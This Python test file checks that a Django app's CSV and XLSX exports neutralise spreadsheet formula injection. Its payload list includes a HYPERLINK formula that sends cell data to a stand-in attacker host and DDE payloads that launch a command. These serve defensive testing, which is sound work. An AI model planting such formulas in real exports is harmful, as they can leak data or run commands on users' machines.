"""No formula reaches a spreadsheet (OWASP « CSV injection »): the shared cell helper, and the
fiches CSV export read back (the synthesis exports: tests/synthesis/test_export_formulas.py)."""
import csv
import io

import pytest
from django.urls import reverse

from fiches.exporting.spreadsheet import FORMULA_PREFIXES, csv_writer, neutralise, xlsx_row
from tests import factories

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://attaquant.example/?d="&A1;"Voir la fiche")'
PAYLOADS = [HYPERLINK, "+33 6 00 00 00 00", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_text_starting_like_a_formula_gets_an_apostrophe(prefix):
    assert neutralise(prefix + "1+1") == "'" + prefix + "1+1"


@pytest.mark.parametrize("value", ["Atelier = réussite", "a-b", "", "'=déjà neutralisé", 42, -3, 1.5, True, None])
def test_other_values_are_left_alone(value):
    assert neutralise(value) is value


def test_writers_neutralise_every_cell():
    out = io.StringIO()
    csv_writer(out, delimiter=";").writerows([PAYLOADS, [1, -1, None]])
    rows = list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    assert rows[0] == ["'" + payload for payload in PAYLOADS]
    assert rows[1] == ["1", "-1", ""]
    assert xlsx_row(PAYLOADS + [-1]) == ["'" + payload for payload in PAYLOADS] + [-1]


def test_fiches_csv_export(client):
    lead = factories.establishment("@SUM(1+1) Lycée", "bordeaux", commune="=1+2", kind="lycee")
    factories.fiche(HYPERLINK, lead)
    response = client.get(reverse("fiches:csv"))
    assert response.status_code == 200
    body = response.content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body), delimiter=";"))
    row = next(r for r in rows if HYPERLINK in r["titre"])
    assert row["titre"] == "'" + HYPERLINK
    assert row["établissement"] == "'@SUM(1+1) Lycée" and row["commune"] == "'=1+2"
    assert not [cell for r in rows for cell in r.values() if cell and cell[0] in "=+-@\t\r"]
